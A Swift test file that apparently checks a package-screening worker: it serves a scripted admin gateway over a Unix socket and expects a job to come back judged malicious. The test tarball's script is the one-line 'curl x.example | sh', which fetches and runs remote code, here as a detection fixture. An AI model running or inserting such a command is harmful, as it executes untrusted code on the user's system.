import Cryptography
import HTTP
import JSON
import Platform
import Screening
import TestSupport
import Testing
import VerdictStore

@testable import Worker

/// The scripted gateway behind a real server.
private struct AdminHandler: RequestHandler {
    let admin: ScriptedAdmin

    func respond(to request: ServerRequest) async -> ServerResponse {
        let body = (try? await request.body.collect(maxBytes: 1 << 20)) ?? []
        let inner = UpstreamRequest(method: request.head.method, url: "http://x\(request.head.path)", body: body)
        guard let answer = try? await admin.send(inner) else { return ServerResponse(status: 503) }
        let bytes = (try? await answer.collect(maxBytes: 1 << 20)) ?? []
        return ServerResponse(
            status: answer.status, headers: ["Content-Type": "application/json"], body: .bytes(bytes))
    }
}

@Suite("The worker over the admin socket")
struct AdminSocketTests {
    @Test("a job comes and its statement goes over a Unix socket, with the key of the data directory")
    func overTheSocket() async throws {
        let fixture = try WorkerFixture()
        let data = fixture.configuration.dataDirectory
        try data.create()
        let key = try KeyStore(directory: data.keysDirectory).create(.verdict)
        fixture.configuration.adminSocketPath = data.adminSocketPath
        let server = HTTPServer(
            listeners: [ListenerConfiguration(name: "admin", address: .unix(path: data.adminSocketPath, mode: 0o600))],
            loops: 1, handler: AdminHandler(admin: fixture.admin), logger: .silent)
        try await server.start()
        fixture.admin.offer(try fixture.job(tarball(script: "curl x.example | sh")))
        let supervisor = try WorkerSupervisor(fixture.configuration, clock: fixture.clock, logger: .silent)
        try await withThrowingTaskGroup(of: Void.self) { group in
            group.addTask { try await supervisor.run() }
            let statement = try verdict(in: await fixture.admin.next("complete"), key: key)
            #expect(statement.verdict == .malicious)
            supervisor.stop()
            try await group.waitForAll()
        }
        await server.shutdown(gracePeriod: .seconds(1))
    }
}
